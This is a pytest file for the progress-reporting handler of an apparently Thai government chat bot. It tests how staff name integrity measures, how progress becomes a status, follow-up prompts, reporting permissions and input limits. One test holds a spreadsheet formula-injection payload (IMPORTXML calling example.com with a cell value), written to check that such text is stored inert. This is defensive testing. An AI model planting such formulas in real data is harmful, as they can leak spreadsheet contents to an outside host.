"""รายงานผล as a conversation: what is recorded, what is asked, and who may."""

from dataclasses import replace
from datetime import timedelta

import pytest

from handlers.topics.reporting.reporter import COORDINATORS_UNIT
from ita.agency import Person, Role
from ita.changes import ReportProgress
from ita.measures import Measure, Progress, Status
from tests.handlers.desk_double import (
    CITIZEN,
    CLERK,
    COORDINATOR,
    EXECUTIVE,
    FINANCE,
    MEASURES,
    NOW,
    UNPLACED,
    DeskDouble,
    buttons,
    measure,
    readable,
    said,
)
from tests.handlers.sendable import assert_sendable
from tests.handlers.test_understanding import ASKED

URL = "https://example.go.th/nogift"
WHOLE = f"รายงานผล ตัวชี้วัด 3 80% ประกาศนโยบายงดรับของขวัญแล้ว {URL}"


def recorded(text: str, person: Person = CLERK, desk: DeskDouble | None = None) -> Progress | None:
    changes = said(text, person, desk).changes
    assert len(changes) <= 1
    for change in changes:
        assert isinstance(change, ReportProgress)
        return change.progress
    return None


def test_a_whole_line_is_recorded_and_answered_with_the_new_state() -> None:
    outcome = said(WHOLE, CLERK)
    assert recorded(WHOLE) == Progress(
        3, NOW, "สำนักปลัด", Status.IN_PROGRESS, 80, "ประกาศนโยบายงดรับของขวัญแล้ว", (URL,)
    )
    (card,) = outcome.replies
    assert card["type"] == "flex"
    assert "มาตรการ 3" in card["altText"]
    assert "อยู่ระหว่างดำเนินการ 80%" in card["altText"]
    assert buttons(outcome) == ["งานค้าง", "รายงานผล", "คะแนน", "ช่วยเหลือ"]
    assert_sendable(outcome.replies)


@pytest.mark.parametrize(
    "reference",
    [
        "3",
        "๓",
        "ม.3",
        "มาตรการ 3",
        "มาตรการที่ ๓",
        "ตัวชี้วัด 3",
        "ตัวชี้วัดที่ ๓",
        "o21",
        "O21",
        "ประกาศนโยบายงดรับของขวัญ No Gift Policy",
        "งดรับของขวัญ",
        "no gift policy",
    ],
)
def test_every_way_to_name_a_measure(reference: str) -> None:
    progress = recorded(f"รายงานผล {reference} 80% ทำแล้ว")
    assert progress is not None
    assert (progress.measure_id, progress.output) == (3, "ทำแล้ว")


@pytest.mark.parametrize(
    ("said_as", "status", "percent"),
    [
        ("100%", Status.IN_PROGRESS, None),
        ("เสร็จแล้ว", Status.IN_PROGRESS, None),
        ("1%", Status.IN_PROGRESS, 1),
        ("กำลังดำเนินการ", Status.IN_PROGRESS, None),
        ("0%", Status.NOT_STARTED, 0),
        ("ยังไม่ได้ดำเนินการ", Status.NOT_STARTED, None),
    ],
)
def test_standing_becomes_status(said_as: str, status: Status, percent: int | None) -> None:
    progress = recorded(f"รายงานผล 3 {said_as} ทำแล้ว")
    assert progress is not None
    assert (progress.status, progress.percent) == (status, percent)
    assert said(f"รายงานผล 3 {said_as}", CLERK).replies[0]["type"] == "flex"


@pytest.mark.parametrize(
    ("text", "asks", "offers"),
    [
        ("รายงานผล", "พิมพ์ในข้อความเดียว", "งานค้าง"),
        ("รายงานผล 80% ทำแล้ว", "หมายถึงมาตรการใด", "รายงานผล 1 80% ทำแล้ว"),
        ("รายงานผล ตัวชี้วัด 5 80% ก", "หมายถึงมาตรการใด", "รายงานผล 6 80% ก"),
        ("รายงานผล ช่องทาง 80% ก", "หมายถึงมาตรการใด", "รายงานผล 5 80% ก"),
        ("รายงานผล คู่มือพนักงาน 80%", "หมายถึงมาตรการใด", "รายงานผล 1 คู่มือพนักงาน 80%"),
        ("รายงานผล ไม่มีเรื่องนี้ 80% ก", "ยังไม่พบมาตรการ", "งานค้าง"),
        ("รายงานผล o43 80% ก", "ยังไม่พบมาตรการ", "งานค้าง"),
        ("รายงานผล 99 80% ก", "ยังไม่พบมาตรการ", "งานค้าง"),
        (f"รายงานผล 3 ทำแล้ว {URL}", "ทำไปถึงไหนแล้ว", f"รายงานผล 3 50% ทำแล้ว {URL}"),
        ("รายงานผล 3 80 ทำแล้ว", "ทำไปถึงไหนแล้ว", "รายงานผล 3 80% ทำแล้ว"),
        (f"รายงานผล งดรับของขวัญ ติดแล้ว {URL}", "ทำไปถึงไหน", f"รายงานผล 3 50% ติดแล้ว {URL}"),
        ("รายงานผล 3 101% ก", "“101”", "รายงานผล 3 ดำเนินการแล้วเสร็จ ก"),
        ("รายงานผล 3 เสร็จ 50% ก", "ยังไม่ตรงกัน", "รายงานผล 3 50% ก"),
        ("รายงานผล 3 50% ก http://a.go.th/x", "https://", "รายงานผล 3 50% ก https://a.go.th/x"),
        ("รายงานผล 3 50% ก www.a.go.th", "https://", "รายงานผล 3 50% ก https://www.a.go.th"),
    ],
)
def test_what_is_missing_is_asked_with_the_persons_own_words(
    text: str, asks: str, offers: str
) -> None:
    outcome = said(text, CLERK)
    assert outcome.changes == ()
    assert asks in readable(outcome)
    assert offers in buttons(outcome)
    assert_sendable(outcome.replies)


def test_a_tap_on_an_offer_finishes_the_report() -> None:
    text = f"รายงานผล ช่องทางแจ้ง ติดป้ายแล้ว {URL}"
    for _ in range(3):
        outcome = said(text, CLERK)
        if outcome.changes:
            break
        text = next(offer for offer in buttons(outcome) if "รายงานผล 5" in offer)
    assert recorded(text) == Progress(
        5, NOW, "สำนักปลัด", Status.NOT_STARTED, None, "ติดป้ายแล้ว", (URL,)
    )


def test_a_button_never_carries_half_a_report() -> None:
    long = "ทำแล้ว " * 60
    outcome = said(f"รายงานผล 3 {long}", CLERK)
    assert buttons(outcome) == []
    assert "พิมพ์ใหม่" in readable(outcome)
    assert "ปุ่ม" not in readable(outcome)


def test_measures_that_share_a_number_are_told_apart_by_title() -> None:
    desk = DeskDouble(all_measures=[measure(1, "รอบแรก"), replace(measure(2, "รอบหลัง"), number=1)])
    offers = buttons(said("รายงานผล 1 80% ก", CLERK, desk))
    assert offers == ["รายงานผล รอบแรก 80% ก", "รายงานผล รอบหลัง 80% ก"]
    progress = recorded(offers[1], CLERK, desk)
    assert progress is not None
    assert progress.measure_id == 2


@pytest.mark.parametrize(
    ("person", "text", "unit"),
    [
        (CLERK, "รายงานผล 3 80% ก", "สำนักปลัด"),
        (CLERK, "รายงานผล 5 80% ก", "สำนักปลัด"),
        (FINANCE, "รายงานผล 6 80% ก", "กองคลัง"),
        (Person("p", Role.STAFF, ("กองช่าง", "กองคลัง")), "รายงานผล 2 80% ก", "กองคลัง"),
        (Person("p", Role.OFFICER, ("กองคลัง",)), "รายงานผล 2 80% ก", "กองคลัง"),
        (COORDINATOR, "รายงานผล 2 80% ก", COORDINATORS_UNIT),
        (replace(COORDINATOR, units=("กองช่าง",)), "รายงานผล 2 80% ก", "กองช่าง"),
    ],
)
def test_who_may_report_and_for_which_unit(person: Person, text: str, unit: str) -> None:
    progress = recorded(text, person)
    assert progress is not None
    assert progress.unit == unit


@pytest.mark.parametrize(
    ("person", "told"),
    [
        (CITIZEN, "เป็นส่วนของเจ้าหน้าที่"),
        (FINANCE, "อยู่ในความรับผิดชอบของ สำนักปลัด"),
        (UNPLACED, "อยู่ในความรับผิดชอบของ สำนักปลัด"),
        (EXECUTIVE, "อยู่ในความรับผิดชอบของ สำนักปลัด"),
    ],
)
def test_who_may_not_report_is_told_why(person: Person, told: str) -> None:
    outcome = said(WHOLE, person)
    assert outcome.changes == ()
    assert told in readable(outcome)


def test_a_formula_is_kept_as_the_text_it_is() -> None:
    formula = '=IMPORTXML("https://example.com/?"&A1,"//a")'
    progress = recorded(f"รายงานผล 3 80% {formula}")
    assert progress is not None
    assert (progress.output, progress.links) == (formula, ())


def test_a_long_text_is_cut_between_letters_and_the_answer_says_so() -> None:
    outcome = said("รายงานผล 3 80% " + "ที่" * 1000, CLERK)
    progress = recorded("รายงานผล 3 80% " + "ที่" * 1000)
    assert progress is not None
    assert progress.output == "ที่" * 333
    assert "1000 ตัวอักษร" in readable(outcome)
    assert_sendable(outcome.replies)


def test_too_many_links_are_asked_to_be_split() -> None:
    links = " ".join(f"{URL}/{number}" for number in range(11))
    outcome = said(f"รายงานผล 3 80% ก {links}", CLERK)
    assert outcome.changes == ()
    assert "10 ลิงก์" in readable(outcome)


def test_a_late_report_says_that_a_newer_one_stands() -> None:
    newer = replace(
        MEASURES[2], status=Status.DONE, percent=100, last_report_at=NOW + timedelta(hours=1)
    )
    outcome = said(WHOLE, CLERK, DeskDouble(all_measures=[newer]))
    assert len(outcome.changes) == 1
    assert "มีรายงานที่ใหม่กว่า" in readable(outcome)
    assert "ดำเนินการแล้วเสร็จ 100%" in readable(outcome)


def test_an_agency_without_measures() -> None:
    assert "ยังไม่มีมาตรการ" in readable(said(WHOLE, CLERK, DeskDouble(all_measures=())))


def test_words_in_common_with_one_measure_by_chance_are_asked() -> None:
    measures: list[Measure] = [measure(1, "ปรับปรุงคู่มือ"), measure(2, "เผยแพร่แผน")]
    outcome = said("รายงานผล แผน 80% ก", CLERK, DeskDouble(all_measures=measures))
    assert outcome.changes == ()
    assert buttons(outcome) == ["รายงานผล 2 80% ก"]


@pytest.mark.parametrize(
    ("text", "tap", "expected"),
    [
        ("ม3 ประชุมเสร็จแล้ว", "50%", (50, "ประชุมเสร็จแล้ว")),
        ("ม3 จะเสร็จเดือนหน้า", "25%", (25, "จะเสร็จเดือนหน้า")),
        ("ม3 เสร็จแล้ว แต่ยังไม่ได้ทำรายงาน", "75%", (75, "เสร็จแล้ว แต่ยังไม่ได้ทำรายงาน")),
        ("ม3 เมื่อวาน 60% วันนี้ 80%", "80%", (80, "เมื่อวาน 60% วันนี้ 80%")),
        ("รายงานผล 3 100% แต่รอนายกเซ็น", "75%", (75, "100% แต่รอนายกเซ็น")),
        ("ม3 80 เสร็จแล้ว", "80%", (80, "เสร็จแล้ว")),
        ("ม3 8/10", "80%", (80, "")),
        ("no gift 90", "90%", (90, "")),
    ],
)
def test_an_answer_by_a_tap_is_not_asked_again(
    text: str, tap: str, expected: tuple[int, str]
) -> None:
    asked = said(text, CLERK)
    assert asked.changes == ()
    (answer,) = (each for each in buttons(asked) if each.startswith(f"รายงานผล 3 {tap}"))
    progress = recorded(answer)
    assert progress is not None
    assert (progress.measure_id, progress.percent, progress.output) == (3, *expected)


def taps(text: str) -> int:
    """How many taps it takes at most until the report is recorded, whatever is tapped."""
    outcome = said(text, CLERK)
    offers = [each for each in buttons(outcome) if each.startswith("รายงานผล ")]
    if outcome.changes or not offers:
        return 0
    return 1 + max(taps(offer) for offer in offers)


@pytest.mark.parametrize("text", [text for text, _, asked in ASKED if asked == "how_far"])
def test_no_question_is_asked_for_ever(text: str) -> None:
    assert taps(text) <= 2


def test_a_word_in_common_offers_the_likeliest_measures() -> None:
    outcome = said("คู่มือ 80%", CLERK)
    assert outcome.changes == ()
    assert "หมายถึงมาตรการใด" in readable(outcome)
    assert buttons(outcome)[0] == "รายงานผล 1 80%"
    assert len(buttons(outcome)) > 1
